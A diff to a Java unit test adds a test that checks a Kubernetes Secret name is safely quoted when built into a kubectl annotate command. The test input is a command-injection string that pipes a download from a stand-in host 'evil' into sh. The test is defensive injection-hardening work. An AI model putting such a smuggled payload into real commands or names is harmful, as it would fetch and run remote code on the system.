@@ -43,6 +43,15 @@ class TokenBindingTest {
         assertThat(new TokenBinding(forge, null).allows(FORGE)).isEqualTo(same);
     }
 
+    /** KEDA's object names the Secret, and the API server takes any name there. */
+    @Test
+    void aCommandRunsNothingThatANameSays() {
+        assertThat(TokenBinding.to(FORGE).command("team-a", "x; curl evil | sh #\n", false)).isEqualTo(
+            "kubectl annotate secret 'x; curl evil | sh #\n' -n team-a" +
+                " console.actrunner.dev/forge-origin=https://git.example.org/sub"
+        );
+    }
+
     @Test
     void isReadFromTheSecretsAnnotationsAndWrittenAsThem() {
         Map<String, String> annotations = Map.of(
